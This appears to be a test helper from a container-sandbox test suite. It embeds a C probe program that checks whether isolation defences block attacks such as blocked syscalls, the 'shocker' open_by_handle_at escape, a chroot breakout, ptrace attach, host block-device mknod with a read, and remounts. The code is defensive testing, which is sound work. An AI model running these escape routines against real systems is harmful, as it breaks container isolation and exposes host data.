// The attacks busybox cannot make: one small static C program, compiled at
// test time (gcc -static) into a temporary directory, never committed.
// Every call it makes is chosen so that, when a defence is off and the call
// reaches the kernel, it still changes nothing on the host: bogus arguments
// that fail with EINVAL/EFAULT/EBADF after the permission checks, reads
// rather than writes. Each line it prints is `name=OK` or `name=ERRNONAME`.
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const PROBE_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *name, long r) {
  if (r < 0) printf("%s=%s\n", name, strerrorname_np(errno));
  else printf("%s=OK\n", name);
  fflush(stdout);
}

/* A call made in a child, so that what it changes (a new user namespace)
   stays there. The child reports through its exit code: 0 or the errno. */
static void in_child(const char *name, long (*f)(void)) {
  pid_t pid = fork();
  if (pid == 0) _exit(f() < 0 ? errno : 0);
  int st = 0;
  waitpid(pid, &st, 0);
  int e = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
  if (e == 0) printf("%s=OK\n", name);
  else { errno = e; printf("%s=%s\n", name, strerrorname_np(e)); }
  fflush(stdout);
}

static long do_unshare_user(void) { return unshare(CLONE_NEWUSER); }
static long do_clone_user(void) {
  long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (r == 0) _exit(0);
  if (r > 0) waitpid(r, 0, 0);
  return r < 0 ? -1 : 0;
}

/* seccomp(2): a filter answers before the kernel looks at the arguments,
   so a filtered call fails with the profile's errno (EPERM, or ENOSYS for
   clone3); the same call let through fails later, differently, or is
   harmless. */
static int syscalls(void) {
  report("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0));
  report("add_key", syscall(SYS_add_key, NULL, NULL, NULL, 0, -2));
  report("request_key", syscall(SYS_request_key, NULL, NULL, NULL, 0));
  in_child("unshare_user", do_unshare_user);
  in_child("clone_user", do_clone_user);
  report("clone3", syscall(SYS_clone3, NULL, 0));             /* EINVAL: size 0 */
  report("bpf", syscall(SYS_bpf, 0x7fffffff, NULL, 0));        /* EINVAL: no such command */
  report("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)); /* EFAULT */
  report("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));  /* EBADF */
  report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", NULL, NULL, 0)); /* EFAULT */
#ifdef SYS_kexec_load
  report("kexec_load", syscall(SYS_kexec_load, 0, 1000, NULL, 0)); /* EINVAL: > KEXEC_SEGMENT_MAX, or ENOSYS */
#endif
  report("init_module", syscall(SYS_init_module, NULL, 0, ""));  /* ENOEXEC/EFAULT: no module */
  report("finit_module", syscall(SYS_finit_module, -1, "", 0)); /* EBADF */
#ifdef SYS_iopl
  report("iopl", syscall(SYS_iopl, 4));                          /* EINVAL: level > 3 */
#endif
  report("swapon", syscall(SYS_swapon, NULL, 0));                /* EFAULT */
  report("userfaultfd", syscall(SYS_userfaultfd, 0x7fffffff));   /* EINVAL: unknown flags */
  return 0;
}

static int hexval(char c) { return c <= '9' ? c - '0' : (c | 32) - 'a' + 10; }

/* The "shocker" escape: a file handle names an inode by number, so with
   CAP_DAC_READ_SEARCH and open_by_handle_at(2) any directory of a
   filesystem the container has a mount of can be opened, even one outside
   every path the container can see. */
static int shocker(const char *mountdir, const char *type, const char *hex) {
  int mfd = open(mountdir, O_RDONLY | O_DIRECTORY);
  if (mfd < 0) { report("open_mount", -1); return 1; }
  size_t n = strlen(hex) / 2;
  struct file_handle *h = malloc(sizeof *h + n);
  h->handle_bytes = n;
  h->handle_type = atoi(type);
  for (size_t i = 0; i < n; i++) h->f_handle[i] = hexval(hex[2 * i]) << 4 | hexval(hex[2 * i + 1]);
  int fd = syscall(SYS_open_by_handle_at, mfd, h, O_RDONLY | O_DIRECTORY);
  report("open_by_handle_at", fd);
  if (fd < 0) return 1;
  DIR *d = fdopendir(fd);
  struct dirent *e;
  while ((e = readdir(d))) printf("entry %s\n", e->d_name);
  return 0;
}

/* Prints the handle of path, for shocker (run on the host). */
static int handle(const char *path) {
  struct file_handle *h = malloc(sizeof *h + 128);
  h->handle_bytes = 128;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0) { report("name_to_handle_at", -1); return 1; }
  printf("%d ", h->handle_type);
  for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
  printf("\n");
  return 0;
}

/* chroot(2) NOTES: chroot does not change the working directory, and ".."
   is only stopped at the process's root. Chroot into a subdirectory while
   holding a descriptor of the old root, go back there with fchdir, climb,
   and chroot to wherever the climb ended. Then look for marker. */
static int chroot_escape(const char *marker) {
  int fd = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/.nsk-out", 0755);
  long r = chroot("/tmp/.nsk-out");
  report("chroot", r);
  if (r < 0) return 1;
  report("fchdir", fchdir(fd));
  for (int i = 0; i < 64; i++) chdir("..");
  report("chroot_dot", chroot("."));
  struct stat st;
  printf("marker=%s\n", stat(marker, &st) == 0 ? "FOUND" : strerrorname_np(errno));
  return 0;
}

static int do_ptrace(const char *pidstr) {
  pid_t pid = atoi(pidstr);
  long r = ptrace(PTRACE_ATTACH, pid, 0, 0);
  report("ptrace_attach", r);
  if (r == 0) {
    waitpid(pid, NULL, __WALL);
    report("ptrace_detach", ptrace(PTRACE_DETACH, pid, 0, 0));
  }
  report("kill0", kill(pid, 0));
  return 0;
}

/* mknod(2) a block device with the host disk's numbers, open it, read one
   sector (never write), remove it. Lines are prefixed with tag. */
static int do_mknod(const char *tag, const char *path, const char *maj, const char *min) {
  char name[64];
  long r = mknod(path, S_IFBLK | 0600, makedev(atoi(maj), atoi(min)));
  snprintf(name, sizeof name, "%s_mknod", tag);
  report(name, r);
  int fd = open(r == 0 ? path : "/nonexistent", O_RDONLY);
  snprintf(name, sizeof name, "%s_open", tag);
  report(name, fd);
  if (fd >= 0) {
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) printf("%s_read=%s\n", tag, strerrorname_np(errno));
    else printf("%s_read=%zd\n", tag, n);
    close(fd);
  }
  if (r == 0) unlink(path);
  return 0;
}

/* Forks up to n children that only wait (at most 5 s), and counts how many
   the kernel let it make: a pids limit must stop it. Bounded, never a bomb. */
static int forkn(const char *count) {
  int n = atoi(count), made = 0, err = 0;
  pid_t kids[4096];
  if (n > 4096) n = 4096;
  for (int i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) { alarm(5); pause(); _exit(0); }
    if (p < 0) { err = errno; continue; }
    kids[made++] = p;
  }
  printf("forked=%d\nfork_error=%s\n", made, err ? strerrorname_np(err) : "none");
  fflush(stdout);
  for (int i = 0; i < made; i++) kill(kids[i], SIGKILL);
  for (int i = 0; i < made; i++) waitpid(kids[i], NULL, 0);
  return 0;
}

/* Opens each path for writing, writes nothing (no O_TRUNC either): the
   open alone says whether a write would be allowed. */
static int openw(int argc, char **argv) {
  for (int i = 2; i + 1 < argc; i += 2) {
    int fd = open(argv[i + 1], O_WRONLY);
    report(argv[i], fd);
    if (fd >= 0) close(fd);
  }
  return 0;
}

/* Reads up to 4096 bytes of each path: name=<bytes read> or the errno. */
static int readn(int argc, char **argv) {
  static char buf[4096];
  for (int i = 2; i + 1 < argc; i += 2) {
    int fd = open(argv[i + 1], O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (n < 0) printf("%s=%s\n", argv[i], strerrorname_np(errno));
    else printf("%s=%zd\n", argv[i], n);
    if (fd >= 0) close(fd);
  }
  return 0;
}

static int ids(void) {
  printf("uid=%d euid=%d\n", getuid(), geteuid());
  return 0;
}

/* mount(2) calls, each reported: what mount(8) would hide behind a message. */
static int do_mount(int argc, char **argv) {
  for (int i = 2; i + 3 < argc; i += 4) {
    const char *name = argv[i], *what = argv[i + 1], *where = argv[i + 2], *how = argv[i + 3];
    long r;
    if (!strcmp(how, "umount")) r = umount2(where, MNT_DETACH);
    else if (!strcmp(how, "remount-rw")) r = mount(NULL, where, NULL, MS_REMOUNT, NULL);
    else if (!strcmp(how, "bind-remount-rw")) r = mount(NULL, where, NULL, MS_REMOUNT | MS_BIND, NULL);
    else if (!strcmp(how, "cgroup-v1-pids")) r = mount("cgroup", where, "cgroup", 0, "pids");
    else if (!strcmp(how, "cgroup2")) r = mount("cgroup2", where, "cgroup2", 0, NULL);
    else r = mount(what, where, how, 0, NULL);
    report(name, r);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *c = argv[1];
  if (!strcmp(c, "syscalls")) return syscalls();
  if (!strcmp(c, "shocker") && argc == 5) return shocker(argv[2], argv[3], argv[4]);
  if (!strcmp(c, "handle") && argc == 3) return handle(argv[2]);
  if (!strcmp(c, "chroot-escape") && argc == 3) return chroot_escape(argv[2]);
  if (!strcmp(c, "ptrace") && argc == 3) return do_ptrace(argv[2]);
  if (!strcmp(c, "mknod") && argc == 6) return do_mknod(argv[2], argv[3], argv[4], argv[5]);
  if (!strcmp(c, "forkn") && argc == 3) return forkn(argv[2]);
  if (!strcmp(c, "ids")) return ids();
  if (!strcmp(c, "mount")) return do_mount(argc, argv);
  if (!strcmp(c, "openw")) return openw(argc, argv);
  if (!strcmp(c, "readn")) return readn(argc, argv);
  return 2;
}
`;

/** Compiles the probe into `dir`/probe, and a setuid-root copy `dir`/suid-probe. */
export function buildProbe(dir: string): { probe: string; suid: string } {
  mkdirSync(dir, { recursive: true, mode: 0o755 });
  const src = join(dir, 'probe.c');
  writeFileSync(src, PROBE_C);
  const probe = join(dir, 'probe');
  execFileSync('gcc', ['-static', '-O1', '-w', '-o', probe, src], { stdio: ['ignore', 'ignore', 'inherit'] });
  chmodSync(probe, 0o755);
  const suid = join(dir, 'suid-probe');
  copyFileSync(probe, suid);
  chmodSync(suid, 0o4755);
  return { probe, suid };
}

/** Parses the probe's `name=VALUE` lines (later lines win). */
export function parseProbe(out: string): Record<string, string> {
  const r: Record<string, string> = {};
  for (const line of out.split('\n')) {
    const m = /^([a-z0-9_]+)=(\S+)$/.exec(line.trim());
    if (m) r[m[1]!] = m[2]!;
  }
  return r;
}
